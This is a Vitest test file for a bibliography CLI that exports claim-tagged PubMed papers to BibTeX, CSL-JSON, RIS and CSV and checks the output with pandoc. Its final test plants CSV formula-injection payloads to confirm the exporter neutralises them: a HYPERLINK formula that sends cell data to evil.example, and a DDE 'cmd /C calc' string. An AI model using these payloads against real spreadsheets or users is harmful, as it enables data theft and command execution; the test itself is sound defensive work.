import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { fixture, runCli, tempDir } from '../helpers.js';

const SAMPLE = fixture('efetch/julielab__pubmedsample18n0001.xml.gz');
const PANDOC = '/usr/bin/pandoc';
const HAVE_PANDOC = fs.existsSync(PANDOC);

interface Author { last: string | null; fore: string | null; collective: string | null }
interface Shown {
  pmid: number; title: string; authors: Author[]; year: number | null; doi: string | null; retracted: boolean;
  tags: { claim: string; stance: string; note: string | null; reviewer: string }[];
}
interface Csl {
  id: string; type: string; title?: string; author?: ({ family: string; given?: string } | { literal: string })[];
  issued?: { 'date-parts': number[][] }; DOI?: string; PMID?: string; note?: string; keyword?: string; 'container-title'?: string;
}

// Papers of the sample: a collective and Unicode authors, Unicode authors, a retracted paper, a consortium.
const GUIDELINE = 16949478;
const INSILICO = 29049350;
const RETRACTED = 11543891;
const CONSORTIUM = 11237011;

function pandoc(args: string[], input = ''): string {
  const r = spawnSync(PANDOC, args, { encoding: 'utf8', input });
  if (r.status !== 0) throw new Error(`pandoc ${args.join(' ')}: ${r.stderr}`);
  return r.stdout;
}

/**
 * A name as read back, with the particles CSL processors split off a family name ("de la Bastide" ->
 * non-dropping-particle "de la" + family "Bastide") joined back on.
 */
function joinParticles(names: Csl['author']): Csl['author'] {
  return names?.map((n) => {
    if ('literal' in n) return n;
    const m = n as { family: string; given?: string; 'dropping-particle'?: string; 'non-dropping-particle'?: string };
    const family = [m['dropping-particle'], m['non-dropping-particle'], m.family].filter(Boolean).join(' ');
    return m.given !== undefined ? { family, given: m.given } : { family };
  });
}

/** CSL names as the library's authors would give them. */
function cslNames(authors: Author[]): Csl['author'] {
  return authors.map((a) => (a.collective ? { literal: a.collective } : a.fore ? { family: a.last!, given: a.fore } : { family: a.last! }));
}

/** A small RFC 4180 reader (CRLF records, quoted fields). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; }
    else field += c;
  }
  return rows;
}

describe('export: bibliographies that keep the tags', () => {
  let dir: string;
  let db: string;
  const shown = new Map<number, Shown>();
  let libraryPmids: number[];

  const cli = (args: string[]) => runCli(args, { db });
  const ok = (args: string[]) => {
    const r = cli(args);
    expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
    return r;
  };

  beforeAll(() => {
    dir = tempDir();
    db = path.join(dir, 'lib.db');
    ok(['import', SAMPLE]);
    ok(['tag', String(GUIDELINE), 'C7', 'supports', '--note', 'fear & 50% {extinction} ~ x_y$ #1 ^ \\ "quoted"', '--reviewer', 'ann']);
    ok(['tag', String(GUIDELINE), 'C5', 'qualifies', '--reviewer', 'bob']);
    ok(['tag', String(INSILICO), 'C7', 'qualifies', '--note', 'in silico, only', '--reviewer', 'ann']);
    ok(['tag', String(CONSORTIUM), 'C7', 'supports', '--reviewer', 'bob']);
    ok(['tag', String(RETRACTED), 'C5', 'contradicts', '--note', 'see retraction', '--reviewer', 'ann']);
    for (const pmid of [GUIDELINE, INSILICO, RETRACTED, CONSORTIUM]) shown.set(pmid, JSON.parse(ok(['show', String(pmid), '--json']).stdout) as Shown);
    libraryPmids = (JSON.parse(ok(['papers', '--json']).stdout) as { pmid: number }[]).map((p) => p.pmid);
  }, 60_000);

  it('exports a claim as BibTeX that pandoc reads back with titles, authors, years, DOIs, notes and keywords', () => {
    const bib = path.join(dir, 'c7.bib');
    const r = ok(['export', '--format', 'bibtex', '--claim', 'C7', '--out', bib]);
    expect(r.stderr).toContain(`wrote 3 paper(s) tagged for C7 to ${bib}`);
    const text = fs.readFileSync(bib, 'utf8');
    expect(text.match(/^@article\{pmid\d+,$/gm)).toHaveLength(3);
    if (!HAVE_PANDOC) return;
    const back = JSON.parse(pandoc([bib, '-f', 'bibtex', '-t', 'csljson'])) as Csl[];
    expect(back.map((c) => c.id).sort()).toEqual([`pmid${CONSORTIUM}`, `pmid${GUIDELINE}`, `pmid${INSILICO}`].sort());
    for (const c of back) {
      const p = shown.get(Number(c.id.slice(4)))!;
      expect(c.type).toBe('article-journal');
      expect(c.title).toBe(p.title);
      expect(joinParticles(c.author)).toEqual(cslNames(p.authors));
      expect(c.issued).toEqual({ 'date-parts': [[p.year]] });
      expect(c.DOI).toBe(p.doi ?? undefined);
      expect(c.PMID).toBe(String(p.pmid));
    }
    const g = back.find((c) => c.id === `pmid${GUIDELINE}`)!;
    // Only C7's tags travel with a --claim C7 export; the note survives every special character.
    expect(g.keyword).toBe('claimwatch:C7:supports');
    expect(g.note).toBe('C7 supports (ann): fear & 50% {extinction} ~ x_y$ #1 ^ \\ "quoted"');
    expect(g.author).toContainEqual({ literal: 'European Heart Rhythm Association' });
    expect(g.author).toContainEqual({ family: 'Zamorano', given: 'José Luis' });
    expect(back.find((c) => c.id === `pmid${INSILICO}`)!.note).toBe('C7 qualifies (ann): in silico, only');
  });

  it.skipIf(!HAVE_PANDOC)('formats a citation from the BibTeX with pandoc --citeproc', () => {
    const bib = path.join(dir, 'c7.bib');
    const md = path.join(dir, 'cite.md');
    fs.writeFileSync(md, `See @pmid${INSILICO} and @pmid${CONSORTIUM}.\n`);
    const out = pandoc(['--citeproc', '--bibliography', bib, md, '-t', 'plain', '--wrap=none']);
    expect(out).toContain('See Jamal et al. (2017) and Lander et al. (2001).');
    expect(out).toContain('An integrative in-silico approach for therapeutic target identification in the human pathogen Corynebacterium diphtheriae');
    expect(out).toContain('Adrián G Turjanski');
    expect(out).toContain(shown.get(CONSORTIUM)!.authors[0]!.collective ?? shown.get(CONSORTIUM)!.authors[0]!.last!);
  });

  it('exports the whole library as CSL-JSON that pandoc reads as CSL JSON and cites', () => {
    const json = path.join(dir, 'all.json');
    ok(['export', '--format', 'csljson', '--out', json]);
    const items = JSON.parse(fs.readFileSync(json, 'utf8')) as Csl[];
    expect(items.map((c) => c.id)).toEqual(libraryPmids.map((p) => `pmid:${p}`));
    const ret = items.find((c) => c.id === `pmid:${RETRACTED}`)!;
    expect(ret.note!.split('\n')).toEqual([expect.stringMatching(/^RETRACTED/), 'C5 contradicts (ann): see retraction']);
    expect(items.find((c) => c.id === `pmid:${GUIDELINE}`)!.keyword).toBe('claimwatch:C5:qualifies, claimwatch:C7:supports');
    if (!HAVE_PANDOC) return;
    const back = JSON.parse(pandoc([json, '-f', 'csljson', '-t', 'csljson'])) as Csl[];
    expect(back).toHaveLength(items.length);
    for (const pmid of shown.keys()) {
      const p = shown.get(pmid)!;
      const c = back.find((b) => b.id === `pmid:${pmid}`)!;
      expect(c.title).toBe(p.title);
      expect(joinParticles(c.author)).toEqual(cslNames(p.authors));
      expect(c.issued).toEqual({ 'date-parts': [[p.year]] });
      expect(c.DOI).toBe(p.doi ?? undefined);
      expect(c.note).toBe(items.find((i) => i.id === c.id)!.note);
      expect(c.keyword).toBe(items.find((i) => i.id === c.id)!.keyword);
    }
    const md = path.join(dir, 'cite-json.md');
    fs.writeFileSync(md, `Retracted: [@pmid:${RETRACTED}].\n`);
    const out = pandoc(['--citeproc', '--bibliography', json, md, '-t', 'plain', '--wrap=none']);
    expect(out).toContain(shown.get(RETRACTED)!.title.replace(/\.$/, ''));
    expect(out).toContain('Arnaiz-Villena');
  });

  it('exports RIS records with AN, UR, KW, N1 and a RETRACTED note on every retracted paper', () => {
    const text = ok(['export', '--format', 'ris']).stdout;
    const records = text.split('\r\n\r\n').map((rec) => rec.split('\r\n').filter(Boolean).map((l) => {
      const m = /^([A-Z][A-Z0-9])  - (.*)$/.exec(l);
      expect(m, l).not.toBeNull();
      return [m![1]!, m![2]!] as const;
    }));
    expect(records).toHaveLength(libraryPmids.length);
    const byPmid = new Map(records.map((r) => [Number(r.find(([t]) => t === 'AN')![1]), r]));
    for (const r of records) {
      expect(r[0]![0]).toBe('TY');
      expect(r.at(-1)).toEqual(['ER', '']);
    }
    const all = (pmid: number, tag: string) => byPmid.get(pmid)!.filter(([t]) => t === tag).map(([, v]) => v);
    // Tags come in claim order (C5 before C7).
    expect(all(GUIDELINE, 'KW')).toEqual(['claimwatch:C5:qualifies', 'claimwatch:C7:supports']);
    expect(all(GUIDELINE, 'N1')).toEqual(['C5 qualifies (bob)', 'C7 supports (ann): fear & 50% {extinction} ~ x_y$ #1 ^ \\ "quoted"']);
    expect(all(GUIDELINE, 'UR')).toEqual([`https://pubmed.ncbi.nlm.nih.gov/${GUIDELINE}/`]);
    expect(all(GUIDELINE, 'AU')).toContain('Zamorano, José Luis');
    expect(all(RETRACTED, 'N1')[0]).toMatch(/^RETRACTED/);
    const retracted = (JSON.parse(ok(['papers', '--json']).stdout) as { pmid: number; retracted: boolean }[]).filter((p) => p.retracted);
    expect(retracted.length).toBeGreaterThan(1);
    for (const p of retracted) expect(all(p.pmid, 'N1')[0]).toMatch(/^RETRACTED/);
  });

  it('exports CSV for one claim and stance (full word or letter)', () => {
    const rows = readCsv(ok(['export', '--format', 'csv', '--claim', 'extinction-enhanced', '--stance', 's']).stdout);
    expect(rows[0]).toEqual(['pmid', 'doi', 'title', 'authors', 'journal', 'year', 'retracted', 'status', 'tags', 'notes', 'url']);
    expect(rows.slice(1).map((r) => Number(r[0])).sort()).toEqual([CONSORTIUM, GUIDELINE].sort());
    const g = rows.find((r) => r[0] === String(GUIDELINE))!;
    expect(g[2]).toBe(shown.get(GUIDELINE)!.title);
    expect(g[8]).toBe('C7:supports');
    expect(g[9]).toBe('C7 supports (ann): fear & 50% {extinction} ~ x_y$ #1 ^ \\ "quoted"');
    const q = readCsv(ok(['export', '--format', 'csv', '--claim', 'C7', '--stance', 'qualifies']).stdout);
    expect(q.slice(1).map((r) => Number(r[0]))).toEqual([INSILICO]);
  });

  it('writes an empty file and says so on stderr for an empty selection', () => {
    const out = path.join(dir, 'empty.bib');
    const r = ok(['export', '--format', 'bibtex', '--claim', 'C1', '--out', out]);
    expect(fs.readFileSync(out, 'utf8')).toBe('');
    expect(r.stderr).toContain('no papers tagged for C1: nothing to export');
    const s = ok(['export', '--format', 'ris', '--claim', 'C5', '--stance', 'supports']);
    expect(s.stdout).toBe('');
  });

  it('rejects bad input with one Error line and exit 2, before creating a library', () => {
    const fresh = path.join(dir, 'never.db');
    for (const [args, msg] of [
      [['export', '--format', 'endnote'], /^Error: unknown format 'endnote': use ris, bibtex, csljson, csv\n$/],
      [['export', '--format', 'ris', '--stance', 's'], /^Error: --stance needs --claim/],
      [['export', '--format', 'ris', '--claim', 'C7', '--stance', 'maybe'], /^Error: unknown stance 'maybe'/],
      [['export'], /^Error: required option '--format <format>' not specified\n$/],
    ] as const) {
      const r = runCli([...args], { db: fresh });
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(msg);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stdout).toBe('');
    }
    expect(fs.existsSync(fresh)).toBe(false);
    const r = cli(['export', '--format', 'csv', '--claim', 'C99']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^Error: unknown claim 'C99'/);
  });
});

// https://owasp.org/www-community/attacks/CSV_Injection: a spreadsheet runs a cell that starts with
// = + - @, tab or CR. Hostile text can come from PubMed, an imported file or another reviewer.
describe('export --format csv: formula injection', () => {
  it('writes every cell that a spreadsheet would run with a leading quote, the file still RFC 4180', async () => {
    const Database = (await import('better-sqlite3')).default;
    const dir = tempDir();
    const db = path.join(dir, 'lib.db');
    const pmid = 11748933; // biopython__pubmed2.xml
    expect(runCli(['import', fixture('efetch/biopython__pubmed2.xml')], { db }).code).toBe(0);
    const sql = new Database(db);
    const { authors } = sql.prepare('SELECT authors FROM papers WHERE pmid = ?').get(pmid) as { authors: string };
    const list = JSON.parse(authors) as { last: string | null }[];
    list[0]!.last = '@SUM(1+1)*cmd|\' /C calc\'!A0';
    sql.prepare('UPDATE papers SET title = ?, journal = ?, doi = ?, authors = ? WHERE pmid = ?')
      .run('=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-2+3', JSON.stringify(list), pmid);
    sql.close();
    expect(runCli(['tag', String(pmid), 'C7', 'supports', '--note', '=1+1'], { db }).code).toBe(0);

    const r = runCli(['export', '--format', 'csv', '--claim', 'C7'], { db });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
    const rows = readCsv(r.stdout);
    expect(rows).toHaveLength(2);
    expect(rows[1]).toHaveLength(11);
    const row = Object.fromEntries(rows[0]!.map((c, i) => [c, rows[1]![i]!]));
    expect(row).toMatchObject({
      pmid: String(pmid), title: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, journal: "'+1+2", doi: "'-2+3",
      tags: 'C7:supports', notes: 'C7 supports (tester): =1+1',
    });
    expect(row.authors!.startsWith("'@SUM(1+1)")).toBe(true);
    // No cell of the file starts with a formula character.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
